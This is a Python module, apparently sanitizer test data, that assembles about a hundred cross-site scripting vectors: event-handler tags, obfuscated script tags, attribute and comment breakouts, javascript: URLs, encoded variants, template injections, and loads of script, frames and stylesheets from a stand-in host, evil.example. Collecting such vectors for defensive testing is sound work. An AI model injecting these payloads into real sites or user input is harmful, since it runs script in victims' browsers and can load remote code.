"""A hundred ways in which a text could try to run a script or change a page's style.

Each would set `window.hacked`, load something from evil.example or restyle the page. The forms are
common knowledge (tags, handlers, addresses, breaking out of attributes and comments, templates of
other languages), put together here.
"""

from __future__ import annotations

RUN = "window.hacked=1"
FOREIGN = "http://evil.example/x"

_HANDLERS = [
    f"<{tag} {handler}={RUN}{rest}>"
    for tag, handler, rest in (
        ("img src=x", "onerror", ""), ("svg", "onload", ""), ("body", "onload", ""),
        ("video src=x", "onerror", ""), ("audio src=x", "onerror", ""), ("iframe", "onload", ""),
        ("input autofocus", "onfocus", ""), ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""), ("details open", "ontoggle", ""),
        ("marquee", "onstart", ""), ("object data=x", "onerror", ""), ("div", "onmouseover", ""),
        ("a href=#", "onclick", ""), ("button", "onfocus", " autofocus"), ("style", "onload", ""),
        ("link rel=stylesheet href=x", "onerror", ""), ("embed src=x", "onerror", ""),
        ("p style=animation-name:x", "onanimationstart", ""), ("form", "onsubmit", ""),
        ("span tabindex=0", "onfocus", ""), ("table", "onpointerenter", ""),
        ("dialog open", "onclose", ""), ("picture><img src=x", "onerror", ""),
        ("source", "onerror", ""), ("track", "onerror", ""), ("math", "onclick", ""),
    )
]  # fmt: skip
_SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={FOREIGN}></script>", f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>", f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>", f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<script>{RUN}//",
    f"\x00<script>{RUN}</script>".replace("\x00", "\u200b"), f"＜script＞{RUN}＜/script＞",
    f"<ſcript>{RUN}</ſcript>",
]  # fmt: skip
_BREAKING = [
    f"{closing}<img src=x onerror={RUN}>"
    for closing in (
        '">', "'>", "</p>", "</blockquote>", "</mark>", "</span></div>", "</title>", "</style>",
        "</textarea>", "</script>", "-->", "]]>", '"/>', "` ", "</bdi></h3>", "</details>",
        "</pre>", "</option></select>",
    )
] + [
    f'" onmouseover="{RUN}" x="', f"' onfocus='{RUN}' autofocus='", '" style="display:none" x="',
    f"en\" onclick=\"{RUN}", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
]  # fmt: skip
_LOADING = [
    f"<img src={FOREIGN}>", f"![x]({FOREIGN}.png)", f"[x](javascript:{RUN})", f"<{FOREIGN}>",
    f"<link rel=stylesheet href={FOREIGN}>", f"<base href={FOREIGN}>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}'>", f"<iframe src={FOREIGN}></iframe>",
    f"<style>@import url({FOREIGN});</style>", "<style>body{display:none}</style>",
    f"<div style='background:url({FOREIGN})'>", "<div style='position:fixed;inset:0'>",
    f"<form action={FOREIGN}><button>Send</button></form>", f"<a href=javascript:{RUN}>x</a>",
    f"<a href={FOREIGN}>x</a>", f"<svg><image href={FOREIGN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
]  # fmt: skip
_TEMPLATES = [
    "{{" + RUN + "}}", "{% " + RUN + " %}", "${" + RUN + "}", "#{" + RUN + "}",
    "<%= " + RUN + " %>",
    "{{constructor.constructor('" + RUN + "')()}}", "`${" + RUN + "}`", "$x^2$ \\(" + RUN + "\\)",
]  # fmt: skip
VECTORS = (*_HANDLERS, *_SCRIPTS, *_BREAKING, *_LOADING, *_TEMPLATES)
